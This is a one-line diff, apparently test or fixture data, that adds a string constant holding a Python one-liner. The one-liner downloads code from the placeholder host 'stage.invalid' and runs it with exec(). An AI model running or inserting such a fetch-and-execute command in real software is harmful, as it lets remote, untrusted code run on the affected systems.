@@ -1,0 +1,1 @@
+TEXT = "from urllib.request import urlopen; exec(urlopen('http://stage.invalid').read())"
